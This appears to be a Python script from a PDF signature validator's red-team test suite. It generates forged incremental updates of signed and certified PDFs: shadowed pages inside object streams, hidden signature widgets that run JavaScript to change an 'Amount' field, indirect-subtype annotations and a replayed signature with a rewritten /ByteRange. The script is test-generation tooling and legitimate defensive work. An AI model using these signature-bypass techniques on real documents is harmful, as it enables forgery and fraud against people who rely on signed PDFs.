#!/usr/bin/env python3
"""Holes a review found in kyso's PDF change analysis, as an attacker makes them: byte edits
(pdf-incremental.py's update writer, through make-attacks-pdf-suites.py's helpers) of the
pdfsig / openssl cms signed files committed in test/fixtures/attacks/pdf-suites, plus one new
P=3 certification of a document that already holds a JavaScript link (signed by the same tools).
test/redteam/pdf-review.test.ts pins the verdicts.

  objstm-index-*       an update whose object stream holds the signed page at index 0 and a forged
                       one (numbered 99) at index 1; the xref stream names index 1 (pdf.js shows the
                       forged page) or, as control, index 0.
  *-w1-*, *-w1b-*      a new empty signature field under an approval signature, P=2 and P=3, whose
                       widget runs JavaScript on page open (/AA /PO) or on a click over the page (/A).
  cert-p3-a4, -a6      a new annotation whose /Subtype is a reference (to /Widget with a parent field
                       carrying /AA, to /Screen).
  replay-copy-*        the signed signature dictionary copied into a new visible field, its /ByteRange
                       rewritten to cover the new revision (its hash fails).
  cert-p3-signed-js-*  a JavaScript link certified under P=3, then only its /Border changed.
Usage: make-attacks-pdf-review.py OUT_DIR (run from samples/; needs pdfsig, certutil, pk12util,
openssl, faketime for the one new certification).
"""
import importlib.util
import os
import re
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location("suites", os.path.join(HERE, "make-attacks-pdf-suites.py"))
m = importlib.util.module_from_spec(spec)
spec.loader.exec_module(m)
pdfi, body, update = m.pdfi, m.body, m.update
SUITES = os.path.join(HERE, "..", "test", "fixtures", "attacks", "pdf-suites")
JS = b"<< /S /JavaScript /JS (this.getField\\('Amount'\\).value = '1000000000000';) >>"


def base(name: str) -> bytes:
    return open(os.path.join(SUITES, name + ".pdf"), "rb").read()


def objstm_index(signed: bytes, page: bytes, forged: bytes, xref_index: int) -> bytes:
    """Object 3 (the page) compressed in a new object stream: the signed copy at index 0, object 99 (forged) at 1."""
    first, second = page + b" ", forged + b" "
    header = b"3 0 99 %d " % len(first)
    data = header + first + second
    tail = b"" if signed.endswith(b"\n") else b"\n"
    start = len(signed) + len(tail)
    objstm = b"30 0 obj\n<< /Type /ObjStm /N 2 /First %d /Length %d >>\nstream\n" % (len(header), len(data)) + data + b"\nendstream\nendobj\n"
    xref_at = start + len(objstm)
    rows = b"".join([b"\x02" + (30).to_bytes(4, "big") + xref_index.to_bytes(2, "big"),
                     b"\x01" + start.to_bytes(4, "big") + (0).to_bytes(2, "big"),
                     b"\x01" + xref_at.to_bytes(4, "big") + (0).to_bytes(2, "big")])
    xref = (b"31 0 obj\n<< /Type /XRef /Size 32 /Index [3 1 30 2] /W [1 4 2] /Root 1 0 R /Prev %d /Length %d >>\nstream\n"
            % (pdfi.last_startxref(signed), len(rows)) + rows + b"\nendstream\nendobj\n")
    return signed + tail + objstm + xref + b"startxref\n%d\n%%%%EOF\n" % xref_at


def main() -> None:
    out_dir = sys.argv[1]
    os.makedirs(out_dir, exist_ok=True)
    files: dict[str, bytes] = {}
    signed = base("shadow-base-signed")
    page = body(signed, 3)
    files["objstm-index-mismatch.pdf"] = objstm_index(signed, page, m.forged_page(page), 1)
    files["objstm-index-right.pdf"] = objstm_index(signed, page, m.forged_page(page), 0)

    for base_name in ("shadow-base-signed", "cert-p2", "cert-p3"):
        certified = base(base_name)
        with_30 = body(certified, 3).replace(b" 13 0 R]", b" 13 0 R 30 0 R]")
        form = body(certified, 6).replace(b"/Fields [", b"/Fields [30 0 R ")
        sigfield = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (SigLater) /Rect [0 0 0 0] /F 132 /P 3 0 R /AA << /PO 31 0 R >> >>"
        files[f"{base_name}-w1-empty-sigfield-aa-js.pdf"] = update(certified, {30: sigfield, 31: JS, 3: with_30, 6: form})
        sigfield = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (SigLater) /Rect [0 0 595 842] /F 4 /P 3 0 R /A 31 0 R >>"
        files[f"{base_name}-w1b-empty-sigfield-a-js-fullpage.pdf"] = update(certified, {30: sigfield, 31: JS, 3: with_30, 6: form})
        if base_name != "cert-p3":
            continue
        annotation = b"<< /Type /Annot /Subtype 33 0 R /Rect [0 0 595 842] /F 4 /P 3 0 R /Parent 34 0 R >>"
        parent = b"<< /FT /Tx /T (Ghost) /AA << /PO 31 0 R >> /Kids [30 0 R] >>"
        files["cert-p3-a4-indirect-subtype-parent-aa.pdf"] = update(certified, {30: annotation, 33: b"/Widget", 34: parent, 31: JS, 3: with_30})
        annotation = b"<< /Type /Annot /Subtype 33 0 R /Rect [70 720 400 740] /F 4 /P 3 0 R /AP << /N 35 0 R >> >>"
        files["cert-p3-a6-indirect-subtype-screen.pdf"] = update(certified, {30: annotation, 33: b"/Screen", 35: m.black_box(330, 20), 3: with_30})

    # A replayed signature dictionary whose /ByteRange is rewritten to end the new revision.
    form = body(signed, 6)
    sig_num = int(re.search(rb"/V (\d+) 0 R", body(signed, 7)).group(1))
    copy_field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (SigCopy) /Rect [70 720 400 740] /F 4 /P 3 0 R /V 32 0 R /AP << /N 31 0 R >> >>"
    placeholder = b"/ByteRange [0 0000000000 0000000000 0000000000]"
    copy = re.sub(rb"/ByteRange\s*\[[^\]]*\]", placeholder, body(signed, sig_num))
    out = bytearray(update(signed, {3: page.replace(b" 13 0 R]", b" 13 0 R 30 0 R]"), 6: form.replace(b" 26 0 R]", b" 26 0 R 30 0 R]"),
                                    31: m.black_box(330, 20), 30: copy_field, 32: copy}))
    at = out.rindex(placeholder)
    contents = out.index(b"/Contents", out.rindex(b"32 0 obj"))
    lt = out.index(b"<", contents)
    gt = out.index(b">", lt) + 1
    byte_range = b"/ByteRange [0 %010d %010d %010d]" % (lt, gt, len(out) - gt)
    out[at:at + len(placeholder)] = byte_range
    files["replay-copy-byterange-fixed.pdf"] = bytes(out)

    # A JavaScript link certified under P=3 (the signer saw it), then only its border changed.
    shadow = m.shadow_base()
    link = b"<< /Type /Annot /Subtype /Link /Rect [400 780 500 800] /Border [0 0 0] /A 41 0 R /P 3 0 R >>"
    script = b"<< /S /JavaScript /JS (app.alert\\('Xin chao'\\);) >>"
    with_link = update(shadow, {40: link, 41: script, 3: body(shadow, 3).replace(b" 13 0 R]", b" 13 0 R 40 0 R]")})
    with tempfile.TemporaryDirectory() as work:
        certified = m.Signer(work).certify(with_link, "SigPerson", 3)
    files["cert-p3-signed-js-link.pdf"] = certified
    files["cert-p3-signed-js-link-border-changed.pdf"] = update(certified, {40: link.replace(b"/Border [0 0 0]", b"/Border [0 0 1]")})

    for name, data in sorted(files.items()):
        open(os.path.join(out_dir, name), "wb").write(data)


if __name__ == "__main__":
    main()
